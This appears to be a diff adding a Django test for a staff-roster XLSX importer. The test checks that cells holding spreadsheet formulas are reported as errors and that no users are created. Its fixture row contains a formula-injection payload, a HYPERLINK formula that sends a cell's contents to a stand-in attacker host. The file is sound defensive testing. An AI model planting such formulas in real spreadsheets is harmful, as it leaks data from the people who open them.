@@ -16,7 +16,7 @@ from django.utils.translation import gettext
 
 from accounts import roles
 from accounts.models import RosterImport, User
-from accounts.roster.messages import roster_message
+from accounts.roster.messages import roster_message, roster_summary_errors
 from accounts.roster.planning import roster_plan
 from accounts.roster.reading import roster_read
 from accounts.roster.services import (
@@ -532,6 +532,22 @@ def test_xlsx_with_title_row_real_dates_and_numbers(units):
     ba = User.objects.get(employee_code="CB0003")
     assert (ba.phone, ba.started_on, ba.organisation_unit.code) == ("0912345678", datetime.date(2022, 3, 1), "XA-002")
     assert User.objects.get(employee_code="4").email == "bon@example.gov.vn"
+
+
+def test_a_formula_in_an_xlsx_cell_is_named_as_such(units):
+    # Before: a formula cell read as empty ("the full name is missing").
+    rows = [
+        ['=HYPERLINK("https://evil.example/?x="&A1,"Bấm vào đây")', "=1+1", "ba@example.gov.vn", None, "XA-001"],
+        ["Phạm Văn Bốn", "CB0004", "bon@example.gov.vn", None, "XA-001"],
+    ]
+    roster_import = check(xlsx_bytes(rows), name="roster.xlsx")
+    assert error_codes(roster_import) == {(2, "full_name", "formula"), (2, "employee_code", "formula")}
+    messages = {error["reason"] for error in roster_summary_errors(roster_import.summary)}
+    assert (
+        gettext("This cell holds a formula, not a value: type the value itself (or paste it as values only).")
+        in messages
+    )
+    assert User.objects.filter(employee_code="CB0004").count() == 0  # checked, nothing written
 
 
 def _xlsx_without_sheets():
